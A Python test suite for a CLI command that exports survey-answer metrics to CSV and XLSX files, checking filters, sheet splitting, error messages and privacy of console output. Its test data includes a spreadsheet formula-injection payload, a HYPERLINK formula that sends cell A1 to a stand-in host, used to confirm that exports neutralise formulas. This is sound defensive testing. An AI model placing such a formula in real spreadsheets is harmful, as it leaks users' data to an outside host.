from __future__ import annotations

import csv
import json
from dataclasses import dataclass
from datetime import date
from pathlib import Path

import duckdb
import pytest
from click.testing import CliRunner

from orchestration.cli import main
from orchestration.export import METRICS, xlsx_file
from orchestration.export.query import PublishedRows
from tests.oracle import landing_zone
from tests.pipeline.support import land, run
from tests.sheets import holds_formula, sheets

DAY = date(2025, 10, 20)
HEADING = list(METRICS["nps_answers"].columns)
CUSTOMER = "customer-of-whom-nobody-may-know"
FORMULA = '=HYPERLINK("http://example.org?"&A1,"words meant for nobody else")'
LINES = 'crème, "brûlée"; 🍮\nsecond line'
UNMATCHED = "an answer without a score"


@dataclass(frozen=True)
class Outcome:
    """How a command ended and what it wrote."""

    code: int
    out: str
    err: str


def chatmart(home: Path, *arguments: object) -> Outcome:
    """Run a command in this process; it has neither tracebacks nor personal data to show."""
    result = CliRunner().invoke(
        main, [str(argument) for argument in arguments], env={"CHATMART_HOME": str(home)}
    )
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exc_info
    for text in (result.stdout, result.stderr):
        for personal in (CUSTOMER, FORMULA, LINES, UNMATCHED):
            assert personal not in text
    if result.exit_code:
        assert "Error: " in result.stderr
        assert "Way out: " in result.stderr
    return Outcome(result.exit_code, result.stdout, result.stderr)


def event(event_id: str, name: str, occurred_at: str, **fields: object) -> dict:
    return {
        "tenant_id": "acme",
        "event_id": event_id,
        "event_name": name,
        "occurred_at": occurred_at,
        "customer_id": CUSTOMER,
        "process_id": "p1",
        "module_id": "m1",
    } | fields


def answered(
    number: int, score: int | None, text: str | None, occurred_at: str, **fields: object
) -> list[dict]:
    """A score, unless it is None, and the answer in free text that follows it."""
    fields = {"customer_id": f"{CUSTOMER}-{number}"} | fields
    answer = event(
        f"answer-{number}",
        "nps_survey_free_text_answered",
        f"{occurred_at}:30Z",
        payload={"text": text} if text is not None else {},
        **fields,
    )
    if score is None:
        return [answer]
    name = f"nps_survey_score_{score}"
    return [event(f"score-{number}", name, f"{occurred_at}:00Z", **fields), answer]


ZONE = landing_zone(
    (
        "tenants",
        DAY,
        "t.jsonl",
        [
            {"tenant_id": "acme", "reporting_timezone": "Europe/Berlin"},
            {"tenant_id": "quiet", "reporting_timezone": "UTC"},
        ],
    ),
    (
        "chat_events",
        DAY,
        "a.jsonl",
        [
            *answered(1, 2, FORMULA, "2025-10-18T10:00"),
            *answered(2, 10, LINES, "2025-10-18T11:00"),
            # In Berlin the day after.
            *answered(3, 7, "-5 degrees", "2025-10-18T22:30"),
            *answered(4, None, UNMATCHED, "2025-10-19T10:00", process_id="-p2"),
            *answered(5, 0, None, "2025-10-19T11:00", process_id="-p2"),
            *answered(6, 1, "of somebody else", "2025-10-19T12:00", tenant_id="other"),
        ],
    ),
)
ROWS = [
    ["answer-1", "p1", "m1", "detractor", "2", "2025-10-18 10:00:30.000000", f"'{FORMULA}"],
    ["answer-2", "p1", "m1", "promoter", "10", "2025-10-18 11:00:30.000000", LINES],
    ["answer-3", "p1", "m1", "passive", "7", "2025-10-18 22:30:30.000000", "'-5 degrees"],
    ["answer-4", "'-p2", "m1", "", "", "2025-10-19 10:00:30.000000", UNMATCHED],
    ["answer-5", "'-p2", "m1", "detractor", "0", "2025-10-19 11:00:30.000000", ""],
]


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A home with a publication, which exports only read."""
    home = tmp_path_factory.mktemp("export") / "it's a home"
    home.mkdir()
    land(home, ZONE)
    run(home)
    return home


@pytest.fixture
def file(tmp_path: Path) -> Path:
    folder = tmp_path / "exports"
    folder.mkdir()
    return folder / "answers.csv"


def rows_in(file: Path) -> list[list[str]]:
    with file.open(encoding="utf-8", newline="") as lines:
        heading, *rows = csv.reader(lines)
    assert heading == HEADING
    return rows


def exported(home: Path, file: Path, *filters: str) -> list[list[str]]:
    outcome = chatmart(home, "export", "nps_answers", "--tenant", "acme", *filters, "--out", file)
    assert outcome.code == 0, outcome.err
    assert [path.name for path in file.parent.iterdir()] == [file.name]
    return rows_in(file)


def test_a_csv_file_holds_every_answer_of_the_tenant_and_no_formula(home, file):
    assert exported(home, file) == ROWS


def test_an_xlsx_file_holds_the_same_with_numbers_as_numbers(home, file):
    file = file.with_suffix(".xlsx")
    outcome = chatmart(home, "export", "nps_answers", "--tenant", "acme", "--out", file)
    assert outcome.code == 0
    heading, *rows = sheets(file)["nps_answers"]
    assert heading == HEADING
    assert [row[:4] for row in rows] == [[cell or None for cell in row[:4]] for row in ROWS]
    assert [row[4] for row in rows] == [2, 10, 7, None, 0]
    assert [round((row[5] % 1) * 86_400) for row in rows[:2]] == [36_030, 39_630]
    assert [row[6:] for row in rows] == [[row[6]] if row[6] else [] for row in ROWS]
    assert not holds_formula(file)
    assert [path.name for path in file.parent.iterdir()] == [file.name]


@pytest.mark.parametrize(
    ("filters", "numbers"),
    [
        (("--segment", "detractor"), [1, 5]),
        (("--segment", "promoter"), [2]),
        (("--process", "p1"), [1, 2, 3]),
        (("--process", "-p2", "--segment", "detractor"), [5]),
        (("--from", "2025-10-19"), [3, 4, 5]),
        (("--to", "2025-10-18"), [1, 2]),
        (("--from", "2025-10-19", "--to", "2025-10-19", "--process", "p1"), [3]),
    ],
)
def test_filters_narrow_the_rows(home, file, filters, numbers):
    assert exported(home, file, *filters) == [ROWS[number - 1] for number in numbers]


def test_more_rows_than_a_sheet_holds_go_on_the_next(home, file, monkeypatch):
    monkeypatch.setattr(xlsx_file, "ROWS_IN_A_SHEET", 3)
    file = file.with_suffix(".xlsx")
    chatmart(home, "export", "nps_answers", "--tenant", "acme", "--out", file)
    pages = sheets(file)
    assert list(pages) == ["nps_answers", "nps_answers 2", "nps_answers 3"]
    assert all(page[0] == HEADING for page in pages.values())
    assert [row[0] for page in pages.values() for row in page[1:]] == [row[0] for row in ROWS]


@pytest.mark.parametrize(
    ("arguments", "sentence"),
    [
        (("--tenant", "acmee"), 'No tenant "acmee" is published'),
        (("--tenant", "quiet"), "Nothing matches the filters"),
        (("--tenant", "acme", "--process", "p9"), "Nothing matches the filters"),
    ],
)
def test_nothing_to_export_is_said_and_leaves_a_heading(home, file, arguments, sentence):
    outcome = chatmart(home, "export", "nps_answers", *arguments, "--out", file, "--json")
    assert outcome.code == 0
    assert sentence in outcome.err
    assert json.loads(outcome.out)["rows"] == 0
    assert rows_in(file) == []


def test_metrics_of_journeys_take_their_filters_as_options(home, file):
    filters = ("--journey", "j", "--step", "s", "--platform", "ios", "--action", "a")
    dates = ("--from", "2025-10-18", "--to", "2025-10-19")
    outcome = chatmart(
        home, "export", "clicked_users", "--tenant", "acme", *filters, *dates, "--out", file
    )
    assert outcome.code == 0
    assert 'No journey "j" of this tenant is published' in outcome.err
    assert outcome.out == f"0 rows of clicked_users are in {file}\n"


def test_scripts_and_logs_can_read_what_an_export_did(home, file):
    arguments = ("export", "nps_answers", "--tenant", "acme", "--out", file)
    outcome = chatmart(home, *arguments, "--json")
    assert json.loads(outcome.out) == {"metric": "nps_answers", "rows": 5, "file": str(file)}
    outcome = chatmart(home, *arguments)
    assert outcome.out == f"5 rows of nps_answers are in {file}\n"
    assert outcome.err == "Rows of nps_answers: 5\n"


def test_the_metrics_are_listed_with_their_columns_and_filters(tmp_path):
    listed = chatmart(tmp_path, "export", "--list").out
    for word in (*METRICS, *HEADING, "--from", "--segment detractor|passive|promoter"):
        assert word in listed
    for family in {metric.query.family for metric in METRICS.values()}:
        assert f"{family}\n" in listed
    assert max(map(len, listed.splitlines())) <= 100
    metrics = json.loads(chatmart(tmp_path, "export", "--list", "--json").out)
    assert [metric["metric"] for metric in metrics] == list(METRICS)
    for metric in metrics:
        known = METRICS[metric["metric"]]
        assert metric["family"] == known.query.family
        assert metric["row"] == known.query.row
        assert metric["numbers"] == list(known.numbers)
        assert metric["columns"] == list(known.columns)
        assert list(metric["filters"]) == [by.name for by in known.filters]
    answers = metrics[list(METRICS).index("nps_answers")]
    assert answers["filters"]["segment"]["values"] == ["detractor", "passive", "promoter"]
    assert answers["filters"]["from"]["description"] == "First local date of the answer."


@pytest.mark.parametrize(
    "arguments",
    [
        (),
        ("nps_answers",),
        ("nps_answers", "--tenant", "acme"),
        ("nps_answers", "--out", "a.csv"),
        ("nps_answer", "--tenant", "acme", "--out", "a.csv"),
        ("nps_answers", "--tenant", "acme", "--out", "a.ods"),
        ("nps_answers", "--tenant", "acme", "--out", "a"),
        ("nps_answers", "--tenant", "acme", "--out", "no/such/folder/a.csv"),
        ("nps_answers", "--tenant", "acme", "--out", "a.csv", "--segment", "Detractor"),
        ("nps_answers", "--tenant", "acme", "--out", "a.csv", "--journey", "welcome"),
        ("total_entries", "--tenant", "acme", "--out", "a.csv", "--step", ""),
        ("sent", "--tenant", "acme", "--out", "a.csv", "--process", "p1"),
        (
            *("nps_answers", "--tenant", "acme", "--out", "a.csv"),
            *("--from", "2025-10-20", "--to", "2025-10-19"),
        ),
    ],
)
def test_what_makes_no_sense_is_bad_usage_and_writes_nothing(
    home, tmp_path, monkeypatch, arguments
):
    monkeypatch.chdir(tmp_path)
    before = list(tmp_path.iterdir())
    assert chatmart(home, "export", *arguments).code == 2
    assert list(tmp_path.iterdir()) == before


def test_a_folder_is_not_written_over(home, tmp_path):
    folder = tmp_path / "a.csv"
    folder.mkdir()
    assert chatmart(home, "export", "nps_answers", "--tenant", "a", "--out", folder).code == 2


def test_without_a_publication_there_is_nothing_to_export(tmp_path, file):
    outcome = chatmart(tmp_path, "export", "nps_answers", "--tenant", "acme", "--out", file)
    assert outcome.code == 1
    assert "chatmart run" in outcome.err
    assert list(file.parent.iterdir()) == []


@pytest.mark.parametrize("ending", [".csv", ".xlsx"])
def test_an_export_that_fails_leaves_the_file_before_it_and_tells_nothing(
    home, file, monkeypatch, ending
):
    def fail(*_: object) -> bool:
        raise duckdb.ConversionException(f"Could not convert {FORMULA}")

    file = file.with_suffix(ending)
    file.write_text("before")
    monkeypatch.setattr(PublishedRows, "is_known_tenant", fail)
    outcome = chatmart(home, "export", "nps_answers", "--tenant", "acmee", "--out", file)
    assert outcome.code == 1
    assert file.read_text() == "before"
    assert list(file.parent.iterdir()) == [file]


@pytest.mark.parametrize("metric", METRICS.values(), ids=lambda metric: metric.name)
def test_a_metric_delivers_the_columns_it_is_listed_with(home, file, metric):
    chatmart(home, "export", metric.name, "--tenant", "acme", "--out", file)
    with file.open(encoding="utf-8", newline="") as lines:
        assert next(csv.reader(lines)) == list(metric.columns)
